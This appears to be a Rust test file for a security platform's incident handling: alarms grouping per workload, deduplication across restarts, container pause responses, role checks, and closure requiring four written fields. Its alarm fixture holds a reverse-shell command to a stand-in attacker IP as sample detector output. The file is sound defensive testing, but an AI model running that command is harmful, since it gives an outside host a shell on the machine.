//! Alarms about one workload gather to an incident, which closes only when everything is written down.

use crate::{Node, container, entry, status};
use jinwu_lab::{Server, now};
use reqwest::StatusCode;
use serde_json::{Value, json};

fn alarm(node: &str, decision: &str, id: &str, pod: &str, time: i64) -> Value {
    let mut alarm = entry(node, &format!("{decision}/alarm"), "alarm", "rule-hit", json!({
        "container": container(node, &id.repeat(32), pod), "policy": "Reverse shell", "priority": "critical", "output": "bash -i >& /dev/tcp/192.0.2.1/4444",
    }));
    alarm["record"]["decision"] = json!(decision);
    alarm["record"]["time"] = json!(time);
    alarm
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn alarms_of_a_workload_gather_once_and_stay() -> anyhow::Result<()> {
    let mut server = Server::start()?;
    let t = now();
    let alarms = [
        alarm("n1", "n1-a-1", "c0", "web-7d4b9c6f8d-x2x5z", t - 3000),
        alarm("n1", "n1-a-2", "c0", "web-7d4b9c6f8d-x2x5z", t - 2000),
        alarm("n1", "n1-a-3", "c1", "web-7d4b9c6f8d-b4b4b", t - 1000),
        alarm("n1", "n1-a-4", "c2", "db-0", t),
    ];
    let (id, node) = {
        let security = server.log_in("secadmin").await?;
        let node = Node::enrol(&server, &security, "n1").await?;
        assert_eq!(node.send(&server, &alarms, status()).await?, (4, 0));
        assert_eq!(node.send(&server, &alarms, status()).await?, (0, 4));
        let other = Node::enrol(&server, &security, "n2").await?;
        let mut of_node = alarm("n2", "n2-h-1", "", "", t - 9000);
        of_node["record"]["detail"]["container"] = json!({"id": "", "node": "n2"});
        other.send(&server, &[of_node], status()).await?;
        other.send(&server, &[alarm("n2", "n2-a-1", "d0", "web-7d4b9c6f8d-z9z9z", t + 1)], status()).await?;
        let all = security.ok("GET", "/incidents", None).await?["incidents"].clone();
        let brief: Vec<_> = all.as_array().into_iter().flatten().map(|i| (i["workload"].clone(), i["count"].clone(), i["state"].clone())).collect();
        assert_eq!(brief, [(json!("shop/web"), json!(4), json!("open")), (json!("shop/db"), json!(1), json!("open")), (json!("n2"), json!(1), json!("open"))], "two nodes, three pods of one owner: {all}");
        (all[0]["id"].as_str().unwrap_or_default().to_owned(), node)
    };
    server.kill();
    server.restart()?;
    let node = Node { http: crate::client(&server, &node.key, &node.enrolled.certificate)?, ..node };
    node.send(&server, &alarms, status()).await?;
    let security = server.log_in("secadmin").await?;
    let audit = server.log_in("auditadmin").await?;
    let shown = audit.ok("GET", &format!("/incidents/{id}"), None).await?;
    assert_eq!((&shown["count"], shown["timeline"].as_array().map(Vec::len)), (&json!(4), Some(4)), "counted once across kill -9: {shown}");
    assert_eq!((&shown["timeline"][0]["decision"], &shown["timeline"][0]["rule"]), (&json!("n1-a-1"), &json!("Reverse shell")));
    let opened = audit.records("kind=incident").await?;
    assert_eq!(opened.iter().filter(|r| r["action"] == "open").count(), 3, "{opened:?}");

    // A response to one of its containers belongs to it without being told so, and so does its answer.
    let ordered = security.ok("POST", &format!("/nodes/n1/containers/{}/responses", "c0".repeat(32)), Some(&json!({"response": "pause", "reason": "look first"}))).await?;
    assert_eq!(ordered["command"]["decision"], json!(id));
    let mut answer = entry("n1", &format!("{}/response", ordered["command"]["id"].as_str().unwrap_or_default()), "response", "pause", json!({"reason": "look first", "said": "frozen"}));
    answer["record"]["decision"] = json!(id);
    assert_eq!(node.send(&server, &[answer.clone()], status()).await?, (1, 0));
    node.send(&server, &[answer], status()).await?;
    let shown = security.ok("GET", &format!("/incidents/{id}"), None).await?;
    assert_eq!((shown["responses"].as_array().map(Vec::len), &shown["responses"][0]["said"]), (Some(1), &json!("frozen")), "{shown}");
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn it_closes_only_when_all_four_are_written_down() -> anyhow::Result<()> {
    let server = Server::start()?;
    let security = server.log_in("secadmin").await?;
    let audit = server.log_in("auditadmin").await?;
    let node = Node::enrol(&server, &security, "n1").await?;
    node.send(&server, &[alarm("n1", "n1-b-1", "c0", "web-7d4b9c6f8d-x2x5z", now())], status()).await?;
    let id = security.ok("GET", "/incidents?state=open", None).await?["incidents"][0]["id"].as_str().unwrap_or_default().to_owned();
    let path = |rest: &str| format!("/incidents/{id}{rest}");
    let noted = security.ok("POST", &path("/notes"), Some(&json!({"text": "looked at the pod", "state": "handled"}))).await?;
    assert_eq!(noted["state"], "handled");
    for bad in [json!({"text": ""}), json!({"text": "x", "state": "closed"}), json!({"text": "x", "state": "gone"}), json!({"text": "x".repeat(5000)})] {
        assert_eq!(security.call("POST", &path("/notes"), Some(&bad)).await?.status, StatusCode::BAD_REQUEST, "{bad}");
    }
    let mut closing = json!({});
    for (member, word) in [("intrusion", "入侵途径"), ("impact", "影响"), ("recovery", "恢复"), ("keys", "更换的密钥")] {
        let answer = security.call("POST", &path("/close"), Some(&closing)).await?;
        let message = answer.body["error"]["message"].as_str().unwrap_or_default().to_owned();
        assert_eq!(answer.status, StatusCode::UNPROCESSABLE_ENTITY, "{answer:?}");
        assert!(message.contains(word), "{member} is missing: {message}");
        closing[member] = json!(format!("{member}: written down"));
        let after = security.call("POST", &path("/notes"), Some(&json!({"text": "still open"}))).await?;
        assert_eq!(after.body["state"], "handled", "a refused closing changed nothing");
    }
    assert_eq!(audit.call("POST", &path("/close"), Some(&closing)).await?.status, StatusCode::FORBIDDEN, "who audits does not close");
    let closed = security.ok("POST", &path("/close"), Some(&closing)).await?;
    assert_eq!((&closed["state"], &closed["closing"]["keys"]), (&json!("closed"), &json!("keys: written down")));
    assert_eq!(security.call("POST", &path("/close"), Some(&closing)).await?.status, StatusCode::CONFLICT);
    assert_eq!(security.call("POST", &path("/notes"), Some(&json!({"text": "late"}))).await?.status, StatusCode::CONFLICT);
    let steps = audit.records(&format!("kind=incident&object=incident:{id}")).await?;
    let of = |action: &str, outcome: &str| steps.iter().filter(|r| r["action"] == action && r["outcome"] == outcome).count();
    assert_eq!((of("open", "success"), of("note", "success"), of("close", "success"), of("close", "failure")), (1, 5, 1, 5), "{steps:?}");
    assert!(steps.iter().any(|r| r["action"] == "close" && r["outcome"] == "success" && r["detail"]["closing"]["impact"] == "impact: written down"));
    // What is closed stays closed: a later alarm of the workload begins another, the same one again does not.
    node.send(&server, &[alarm("n1", "n1-b-1", "c0", "web-7d4b9c6f8d-x2x5z", now())], status()).await?;
    assert_eq!(security.ok("GET", "/incidents", None).await?["incidents"].as_array().map(Vec::len), Some(1));
    node.send(&server, &[alarm("n1", "n1-b-2", "c0", "web-7d4b9c6f8d-x2x5z", now())], status()).await?;
    let all = security.ok("GET", "/incidents", None).await?["incidents"].clone();
    assert_eq!(all.as_array().map(Vec::len), Some(2), "{all}");
    let shown = server.jinwu(&["--lang", "en", "incident", "list", "--state", "closed"])?;
    let shown = String::from_utf8_lossy(&shown.stdout).into_owned();
    assert!(shown.contains(&id) && shown.contains("shop/web") && shown.lines().count() == 2, "{shown}");
    let shown = server.jinwu(&["--lang", "en", "incident", "show", &id])?;
    let shown = String::from_utf8_lossy(&shown.stdout).into_owned();
    assert!(shown.contains("Reverse shell") && shown.contains("exchanged keys: keys: written down"), "{shown}");
    Ok(())
}
